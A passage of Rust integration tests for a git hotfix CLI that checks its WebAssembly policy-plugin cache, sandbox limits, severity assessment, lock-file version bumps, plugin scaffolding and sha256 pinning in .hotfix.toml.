    std::fs::write(dir.join("feed-1.cwasm.tmp4242"), [0u8; 10]).unwrap();
    let json = run(&["plugin", "cache", "--json"]).ok().json();
    let entries = json["entries"].as_array().unwrap();
    assert_eq!(entries.len(), 2, "{json}");
    let current: Vec<bool> = entries.iter().map(|e| e["current"] == true).collect();
    assert_eq!(current.iter().filter(|c| **c).count(), 1, "{json}");
    // Named where the name is known here: the file the settings pin; the other is not.
    let named: Vec<&serde_json::Value> = entries.iter().map(|e| &e["plugin"]).collect();
    assert!(
        named.contains(&&serde_json::json!("policies/strict.wasm")),
        "{json}"
    );
    assert!(named.contains(&&serde_json::Value::Null), "{json}");
    let listed = run(&["plugin", "cache"]).ok().stdout;
    assert!(
        listed.contains("policies/strict.wasm")
            && listed.contains("(not a built-in, nor pinned here)"),
        "{listed}"
    );
    let run_prune = run(&["plugin", "cache", "--prune"]).ok();
    assert!(
        run_prune.stderr.contains("Removed 1 compiled plugin"),
        "{}",
        run_prune.stderr
    );
    assert!(
        run_prune.stdout.contains(": 1 compiled plugin, "),
        "{}",
        run_prune.stdout
    );
    let left: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(left.len(), 2, "one artifact and its checksum: {left:?}");
    assert!(
        left.iter()
            .all(|name| !name.starts_with("0123abcd") && !name.contains(".tmp"))
    );

    let cleared = run(&["plugin", "cache", "--clear", "--json"]).ok().json();
    assert_eq!(cleared["removed"]["entries"], 1, "{cleared}");
    assert_eq!(cleared["entries"], serde_json::json!([]));
    let third = run(&["assess", "--title", "typo"]).ok();
    assert!(
        third.stderr.contains("Compiling"),
        "compiled again: {}",
        third.stderr
    );
}

#[test]
fn a_policy_sees_fixed_clocks_and_randomness_unless_hotfix_toml_grants_them() {
    let env = TestEnv::new();
    let plugin = test_plugin("nondeterministic");
    let pinned = format!(
        "[policies.severity]\nplugin = \"policies/nondeterministic.wasm\"\nsha256 = \"{}\"\n",
        sha256(&plugin)
    );
    let repo = env.with_plugin("nondeterministic", &plugin, &pinned);
    let reasons = |repo: &Path| {
        env.hotfix(repo, &["assess", "--title", "x", "--json"])
            .ok()
            .json()["assessment"]["reasons"]
            .clone()
    };
    let first = reasons(&repo);
    assert_eq!(first, reasons(&repo), "the same incident, the same answer");
    assert_eq!(first[0], "wall clock: 0 ns");

    env.commit(
        &repo,
        "Let the policy read the time",
        &[(
            ".hotfix.toml",
            &format!("{pinned}clocks = true\nrandom = true\n"),
        )],
    );
    let granted = reasons(&repo);
    assert_ne!(granted[0], "wall clock: 0 ns", "{granted}");
    let list = env.hotfix(&repo, &["plugin", "list"]).ok();
    assert!(
        list.stdout.contains("may read: the clocks, random bytes"),
        "{}",
        list.stdout
    );
}

#[test]
fn plugin_check_and_test_run_as_the_repository_would() {
    let env = TestEnv::new();
    let strict = test_plugin("strict");
    let repo = env.with_severity_plugin("strict", &strict, "[plugin-limits]\nfuel = 1000\n");

    // From outside the repository, the path to pin is still the one from its root.
    let run = env
        .hotfix(
            env.root.path(),
            &[
                "plugin",
                "check",
                repo.join("policies/strict.wasm").to_str().unwrap(),
            ],
        )
        .ok();
    assert!(
        run.stdout.contains("  plugin = \"policies/strict.wasm\""),
        "{}",
        run.stdout
    );

    // In the repository, a case runs within its limits, as `assess` would.
    let cases = repo.join("cases");
    std::fs::create_dir_all(&cases).unwrap();
    std::fs::write(
        cases.join("typo.toml"),
        "call = \"assess\"\n[input]\ntitle = \"typo\"\n[expect]\nseverity = \"p2\"\n",
    )
    .unwrap();
    let run = env
        .hotfix(
            &repo,
            &["plugin", "test", "policies/strict.wasm", "--cases", "cases"],
        )
        .expect(1);
    assert!(
        run.stdout.contains("ran out of fuel (limit: 1000 units)"),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout.contains("1 case: 0 passed, 1 failed"),
        "{}",
        run.stdout
    );
}

#[test]
fn an_answer_to_no_question_or_in_the_wrong_form_is_refused_not_dropped() {
    let env = TestEnv::new();
    let repo = env.linear().dir;
    for (answer, error, hint) in [
        (
            "donw=yes",
            "error: --answer donw=yes: the severity policy (builtin:severity) asks no question `donw`",
            Some("hint: did you mean `down`?"),
        ),
        (
            "bogus=yes",
            "error: --answer bogus=yes: the severity policy (builtin:severity) asks no question `bogus`",
            None,
        ),
        (
            "down=maybe",
            "error: --answer down=maybe: `down` is answered yes or no (Is production fully down (nobody can use it)?)",
            None,
        ),
    ] {
        let run = env
            .hotfix(
                &repo,
                &["assess", "--title", "login fails", "--answer", answer],
            )
            .expect(2);
        assert_eq!(run.stderr.lines().next().unwrap(), error);
        if let Some(hint) = hint {
            assert!(run.stderr.contains(hint), "{}", run.stderr);
        }
        assert!(
            run.stderr.contains(
                "hint: its questions: security, data, down, broken, payments, workaround"
            ) || answer.starts_with("down="),
            "{}",
            run.stderr
        );
    }
    // Yes and no in any case count; the answer decides.
    let json = env
        .hotfix(
            &repo,
            &[
                "assess",
                "--title",
                "login fails",
                "--answer",
                "down=YES",
                "--json",
            ],
        )
        .ok()
        .json();
    assert_eq!(json["assessment"]["severity"], "P0");
    assert_eq!(json["assessment"]["label"], "production fully down");
}

#[test]
fn a_level_is_chosen_by_its_p_name_the_common_names_or_the_policy_s_own() {
    let env = TestEnv::new();
    let repo = env.linear().dir;
    for (ticket, given, severity) in [
        ("ENG-1", "CRITICAL", "P0"),
        ("ENG-2", "high", "P1"),
        ("ENG-3", "Medium", "P2"),
        ("ENG-4", "LOW", "P3"),
        ("ENG-5", "production down", "P1"),
        ("ENG-6", "p2", "P2"),
    ] {
        env.hotfix(
            &repo,
            &["start", ticket, "fix", "--severity", given, "--no-checkout"],
        )
        .ok();
        let assessed = &journal(&repo, ticket)["assessment"];
        assert_eq!(assessed["severity"], severity, "{given}");
        assert_eq!(
            assessed["reasons"],
            serde_json::json!([format!("set with --severity {given}")])
        );
    }
    let run = env
        .hotfix(
            &repo,
            &[
                "start",
                "ENG-7",
                "fix",
                "--severity",
                "urgent",
                "--no-checkout",
            ],
        )
        .expect(2);
    assert_eq!(
        run.stderr.lines().next().unwrap(),
        "error: the severity policy has no level urgent"
    );
    assert!(
        run.stderr.contains(
            "hint: its levels: P0 (security vulnerability), P1 (production down), P2 (major bug), P3 (business critical); CRITICAL, HIGH, MEDIUM and LOW name P0 to P3"
        ),
        "{}",
        run.stderr
    );
    assert!(env.rev(&repo, "refs/heads/hotfix/ENG-7-fix").is_none());
}

#[test]
fn lock_files_move_with_their_manifests_so_locked_builds_still_work() {
    let env = TestEnv::new();
    let repo = env.init("repo");
    let cargo_lock = "# This file is automatically @generated by Cargo.\n# It is not intended for manual editing.\nversion = 4\n\n[[package]]\nname = \"svc\"\nversion = \"0.3.0\"\n";
    let package_lock = "{\n  \"name\": \"svc-web\",\n  \"version\": \"0.3.0\",\n  \"lockfileVersion\": 3,\n  \"requires\": true,\n  \"packages\": {\n    \"\": {\n      \"name\": \"svc-web\",\n      \"version\": \"0.3.0\"\n    },\n    \"node_modules/semver\": {\n      \"version\": \"0.3.0\"\n    }\n  }\n}\n";
    env.commit(
        &repo,
        "Release 0.3.0",
        &[
            (
                "Cargo.toml",
                "[package]\nname = \"svc\"\nversion = \"0.3.0\"\nedition = \"2021\"\n",
            ),
            ("Cargo.lock", cargo_lock),
            ("src/lib.rs", "pub fn up() -> bool { false }\n"),
            (
                "package.json",
                "{\n  \"name\": \"svc-web\",\n  \"version\": \"0.3.0\"\n}\n",
            ),
            ("package-lock.json", package_lock),
        ],
    );
    env.tag(&repo, "v0.3.0");
    env.hotfix(&repo, &["start", "ENG-3", "up"]).ok();
    env.commit(
        &repo,
        "fix: up",
        &[("src/lib.rs", "pub fn up() -> bool { true }\n")],
    );
    env.hotfix(&repo, &["finish"]).ok();

    let changed = env.git(&repo, &["diff", "--name-only", "v0.3.0", "v0.3.1"]);
    assert_eq!(
        changed,
        "Cargo.lock\nCargo.toml\npackage-lock.json\npackage.json\nsrc/lib.rs\n"
    );
    assert_eq!(
        env.git(&repo, &["show", "v0.3.1:Cargo.lock"]),
        cargo_lock.replace("0.3.0", "0.3.1")
    );
    // The root package moves; a dependency that happens to share the version stays.
    assert_eq!(
        env.git(&repo, &["show", "v0.3.1:package-lock.json"]),
        package_lock.replacen("0.3.0", "0.3.1", 2)
    );
    // cargo itself agrees the lock matches the manifest (it refuses a stale one with --locked).
    let cargo = std::process::Command::new("cargo")
        .args(["metadata", "--locked", "--offline", "--format-version", "1"])
        .current_dir(&repo)
        .env("CARGO_TARGET_DIR", repo.join("target"))
        .output()
        .expect("cargo runs");
    assert!(
        cargo.status.success(),
        "{}",
        String::from_utf8_lossy(&cargo.stderr)
    );
}

/// A policy tried by hand: one call, its input on the command line as a case's `[input]`
/// has it, no case files or commits; and the questions nobody could answer are said.
#[test]
fn one_call_tries_a_policy_and_unanswered_questions_are_said() {
    let env = TestEnv::new();
    let repo = env.init("repo");
    env.commit(&repo, "Release", &[("VERSION", "1.0.0\n")]);
    let call = [
        "plugin",
        "call",
        "builtin:severity",
        "assess",
        "title=auth bypass on login",
        "answers.workaround=yes",
        "--json",
    ];
    let json = env.hotfix(&repo, &call).ok().json();
    assert_eq!(json["answer"]["severity"], "p0", "{json}");
    assert_eq!(json["input"]["answers"]["workaround"], "yes", "{json}");
    assert!(json["fuel"].as_u64().unwrap() > 0, "{json}");
    let shown = env.hotfix(&repo, &call[..call.len() - 1]).ok();
    assert!(
        shown.stdout.contains("\"deploy-window\": \"immediate\""),
        "{}",
        shown.stdout
    );
    assert!(
        shown.stderr.contains("Called builtin:severity in"),
        "{}",
        shown.stderr
    );
    // A deploy plan with settings, as a rollback by flag asks for it.
    let plan = [
        "plugin",
        "call",
        "builtin:deploy",
        "plan",
        "action=rollback",
        "release.environment=production",
        "release.settings.rollback-flag=./flags.sh off {flag}",
        "release.settings.flag=new-ui",
        "--json",
    ];
    let json = env.hotfix(&repo, &plan).ok().json();
    assert_eq!(
        json["answer"][0]["run"]["argv"],
        serde_json::json!(["./flags.sh", "off", "new-ui"]),
        "{json}"
    );
    // Input that is not KEY=VALUE, or a call the plugin refuses.
    let refused = env
        .hotfix(
            &repo,
            &["plugin", "call", "builtin:severity", "assess", "title"],
        )
        .expect(2);
    assert!(
        refused.stderr.contains("`title` is not KEY=VALUE"),
        "{}",
        refused.stderr
    );
    let failed = env
        .hotfix(
            &repo,
            &["plugin", "call", "builtin:deploy", "plan", "action=deploy"],
        )
        .expect(4);
    assert!(failed.stderr.contains("deploy"), "{}", failed.stderr);

    // Without a terminal and without answers, the questions go unasked: said, and listed.
    let json = env
        .hotfix(&repo, &["assess", "--title", "login fails", "--json"])
        .ok();
    assert!(
        json.stderr
            .contains("went unanswered (no terminal to ask on)"),
        "{}",
        json.stderr
    );
    let unanswered = json.json()["unanswered"].clone();
    assert_eq!(
        unanswered,
        serde_json::json!([
            "security",
            "data",
            "down",
            "broken",
            "payments",
            "workaround"
        ])
    );
    let all = [
        "assess",
        "--title",
        "login fails",
        "--answer",
        "security=no",
        "--answer",
        "data=no",
        "--answer",
        "down=no",
        "--answer",
        "broken=no",
        "--answer",
        "payments=no",
        "--answer",
        "workaround=no",
        "--json",
    ];
    let answered = env.hotfix(&repo, &all).ok();
    assert!(
        !answered.stderr.contains("unanswered"),
        "{}",
        answered.stderr
    );
    assert_eq!(answered.json()["unanswered"], serde_json::json!([]));

    // `plugin check` pins a file where the team reads it from, and says when it is not there.
    let strict = test_plugin("strict");
    let outside = env.path("strict.wasm");
    std::fs::write(&outside, &strict).unwrap();
    let run = env
        .hotfix(&repo, &["plugin", "check", outside.to_str().unwrap()])
        .ok();
    assert!(
        run.stderr.contains("is in no git repository"),
        "{}",
        run.stderr
    );
    std::fs::create_dir_all(repo.join("policies")).unwrap();
    std::fs::write(repo.join("policies/strict.wasm"), &strict).unwrap();
    let run = env
        .hotfix(&repo, &["plugin", "check", "policies/strict.wasm"])
        .ok();
    assert!(
        run.stdout.contains("plugin = \"policies/strict.wasm\"")
            && run
                .stderr
                .contains("policies/strict.wasm is not committed on main"),
        "{}\n{}",
        run.stdout,
        run.stderr
    );
    env.commit(&repo, "The policy", &[("policies/strict.wasm", "")]);
    std::fs::write(repo.join("policies/strict.wasm"), &strict).unwrap();
    let run = env
        .hotfix(&repo, &["plugin", "check", "policies/strict.wasm"])
        .ok();
    assert!(
        run.stderr
            .contains("differs from the one committed on main"),
        "{}",
        run.stderr
    );
}

#[test]
fn plugin_new_writes_a_policy_of_each_kind_and_language_whole_or_not_at_all() {
    let env = TestEnv::new();
    let repo = env.init("repo");
    let wit = std::fs::read_to_string(workspace_file("wit/v0.1.0/plugin.wit")).unwrap();
    for kind in ["severity", "version-files", "deploy"] {
        for lang in ["rust", "python", "js"] {
            let dir = format!("policies/{kind}-{lang}");
            let json = env
                .hotfix(
                    &repo,
                    &[
                        "plugin", "new", &dir, "--kind", kind, "--lang", lang, "--json",
                    ],
                )
                .ok()
                .json();
            assert_eq!(json["name"], format!("{kind}-{lang}"), "{json}");
            assert_eq!(json["component"], format!("{kind}-{lang}.wasm"), "{json}");
            let world = format!("{kind}-policy");
            assert_eq!(json["world"], world.as_str(), "{json}");
            let root = repo.join(&dir);
            let files: Vec<&str> = json["files"]
                .as_array()
                .unwrap()
                .iter()
                .map(|f| f.as_str().unwrap())
                .collect();
            // What it says it wrote is what is there, every placeholder filled in.
            let mut on_disk: Vec<String> = walk(&root)
                .iter()
                .map(|p| p.strip_prefix(&root).unwrap().display().to_string())
                .collect();
            on_disk.sort();
            let mut said: Vec<String> = files.iter().map(|f| f.to_string()).collect();
            said.sort();
            assert_eq!(on_disk, said, "{kind} {lang}");
            for file in &files {
                let text = std::fs::read_to_string(root.join(file)).unwrap();
                assert!(!text.contains("{{"), "{kind} {lang} {file}: {text}");
            }
            let build = std::fs::read_to_string(root.join("build.sh")).unwrap();
            assert!(
                build.contains(&format!("plugin test {kind}-{lang}.wasm --cases cases")),
                "{build}"
            );
            use std::os::unix::fs::PermissionsExt;
            let mode = std::fs::metadata(root.join("build.sh"))
                .unwrap()
                .permissions()
                .mode();
            assert_eq!(mode & 0o111, 0o111, "build.sh is executable");
            // Every case is one call of this kind, with what it must answer.
            let calls: &[&str] = match kind {
                "severity" => &["assess"],
                "version-files" => &["detect", "read-version", "write-version"],
                _ => &["plan"],
            };
            let cases: Vec<&&str> = files.iter().filter(|f| f.starts_with("cases/")).collect();
            assert!(cases.len() >= 4, "{kind} {lang}: {cases:?}");
            for case in cases {
                let case: toml::Table =
                    toml::from_str(&std::fs::read_to_string(root.join(case)).unwrap()).unwrap();
                assert!(calls.contains(&case["call"].as_str().unwrap()), "{case:?}");
                assert!(
                    case.contains_key("expect") || case.contains_key("expect-error"),
                    "{case:?}"
                );
            }
            match lang {
                "rust" => {
                    let manifest: toml::Table =
                        toml::from_str(&std::fs::read_to_string(root.join("Cargo.toml")).unwrap())
                            .unwrap();
                    assert_eq!(
                        manifest["package"]["name"].as_str(),
                        Some(json["name"].as_str().unwrap())
                    );
                    // The SDK as a published crate, not a path into a checkout.
                    assert_eq!(
                        manifest["dependencies"]["git-hotfix-plugin-sdk"].as_str(),
                        Some("0.1")
                    );
                    assert!(build.contains(&format!("{}.wasm", kind.replace('-', "_") + "_rust")));
                }
                _ => {
                    assert_eq!(
                        std::fs::read_to_string(root.join("wit/plugin.wit")).unwrap(),
                        wit
                    );
                    let source = if lang == "python" {
                        "app.py"
                    } else {
                        "policy.js"
                    };
                    assert!(files.contains(&source), "{files:?}");
                    let built_for = if lang == "python" {
                        build.clone()
                    } else {
                        std::fs::read_to_string(root.join("package.json")).unwrap()
                    };
                    assert!(built_for.contains(&world), "{built_for}");
                }
            }
        }
    }

    // A directory with something in it is refused, and nothing is written or left.
    std::fs::create_dir_all(repo.join("mine")).unwrap();
    std::fs::write(repo.join("mine/notes.txt"), "mine\n").unwrap();
    let refused = env
        .hotfix(
            &repo,
            &[
                "plugin", "new", "mine", "--kind", "deploy", "--lang", "rust",
            ],
        )
        .expect(1);
    assert!(refused.stderr.contains("not empty"), "{}", refused.stderr);
    assert_eq!(walk(&repo.join("mine")), vec![repo.join("mine/notes.txt")]);
    let strays: Vec<_> = std::fs::read_dir(&repo)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|name| name.starts_with(".plugin-new-"))
        .collect();
    assert!(strays.is_empty(), "{strays:?}");
    // A name that cannot be a crate's or a package's: refused, with the way on.
    let bad = env
        .hotfix(
            &repo,
            &[
                "plugin",
                "new",
                "My Policy",
                "--kind",
                "severity",
                "--lang",
                "js",
            ],
        )
        .expect(2);
    assert!(bad.stderr.contains("--name"), "{}", bad.stderr);
    assert!(!repo.join("My Policy").exists());
    // An empty directory is taken, with the name given.
    std::fs::create_dir_all(repo.join("empty")).unwrap();
    let named = env
        .hotfix(
            &repo,
            &[
                "plugin", "new", "empty", "--kind", "severity", "--lang", "python", "--name",
                "strict",
            ],
        )
        .ok();
    assert!(named.stdout.contains("empty/build.sh"), "{}", named.stdout);
    assert!(
        std::fs::read_to_string(repo.join("empty/build.sh"))
            .unwrap()
            .contains("-o strict.wasm")
    );
}

/// Every file under `dir`, sorted.
fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            found.extend(walk(&path));
        } else {
            found.push(path);
        }
    }
    found.sort();
    found
}

#[test]
fn plugin_pin_writes_the_pin_keeping_the_file_and_says_what_is_left_to_commit() {
    let env = TestEnv::new();
    let repo = env.linear().dir;
    let settings = "# Our release settings.\nmonitoring = \"30m\"\n\n[policies.deploy]\nplugin = \"builtin:deploy\"\ncommands = [\"kubectl\"]  # ops said so\n";
    env.commit(&repo, "Settings", &[(".hotfix.toml", settings)]);
    let strict = test_plugin("strict");
    std::fs::create_dir_all(repo.join("policies")).unwrap();
    std::fs::write(repo.join("policies/strict.wasm"), &strict).unwrap();
    std::fs::create_dir_all(repo.join("docs")).unwrap();

    // From a subdirectory: the path pinned is the repository's, not the one typed.
    let json = env
        .hotfix(
            &repo.join("docs"),
            &["plugin", "pin", "../policies/strict.wasm", "--json"],
        )
        .ok()
        .json();
    assert_eq!(json["policy"], "severity", "{json}");
    assert_eq!(json["plugin"], "policies/strict.wasm", "{json}");
    assert_eq!(json["sha256"], sha256(&strict), "{json}");
    assert_eq!(json["changed"], true, "{json}");
    assert_eq!(json["committed"], "missing", "{json}");
    let written = std::fs::read_to_string(repo.join(".hotfix.toml")).unwrap();
    assert_eq!(
        written,
        format!(
            "{settings}\n[policies.severity]\nplugin = \"policies/strict.wasm\"\nsha256 = \"{}\"\n",
            sha256(&strict)
        )
    );

    // Pinned again: nothing to write, and said so; what is left is said too.
    let again = env
        .hotfix(&repo, &["plugin", "pin", "policies/strict.wasm"])
        .ok();
    assert!(again.stderr.contains("Unchanged"), "{}", again.stderr);
    assert!(
        again
            .stdout
            .contains("policies/strict.wasm is not committed on main yet"),
        "{}",
        again.stdout
    );
    // Committed on the production branch, the repository reads it.
    env.git(&repo, &["add", ".hotfix.toml", "policies/strict.wasm"]);
    env.git(&repo, &["commit", "-q", "-m", "Pin our severity policy"]);
    let list = env.hotfix(&repo, &["plugin", "list", "--json"]).ok().json();
    assert_eq!(
        list["policies"][0]["plugin"], "policies/strict.wasm",
        "{list}"
    );
    assert_eq!(list["policies"][2]["commands"][0], "kubectl", "{list}");
    let json = env
        .hotfix(&repo, &["plugin", "pin", "policies/strict.wasm", "--json"])
        .ok()
        .json();
    assert_eq!(
        (json["changed"].clone(), json["committed"].clone()),
        (false.into(), "same".into())
    );

    // A policy of another kind than the file implements, a built-in, a file outside any
    // repository, a .hotfix.toml that does not parse: refused, nothing written.
    let other = env
        .hotfix(
            &repo,
            &["plugin", "pin", "policies/strict.wasm", "--kind", "deploy"],
        )
        .expect(1);
    assert!(
        other.stderr.contains("does not implement a deploy policy"),
        "{}",
        other.stderr
    );
    env.hotfix(&repo, &["plugin", "pin", "builtin:severity"])
        .expect(2);
    let outside = env.root.path().join("strict.wasm");
    std::fs::write(&outside, &strict).unwrap();
    let refused = env
        .hotfix(&repo, &["plugin", "pin", outside.to_str().unwrap()])
        .expect(1);
    assert!(
        refused.stderr.contains("in no git repository"),
        "{}",
        refused.stderr
    );
    std::fs::write(repo.join(".hotfix.toml"), "monitoring = \"30m\n").unwrap();
    let broken = env
        .hotfix(&repo, &["plugin", "pin", "policies/strict.wasm"])
        .expect(1);
    assert!(broken.stderr.contains(".hotfix.toml"), "{}", broken.stderr);
    assert_eq!(
        std::fs::read_to_string(repo.join(".hotfix.toml")).unwrap(),
        "monitoring = \"30m\n"
    );
}
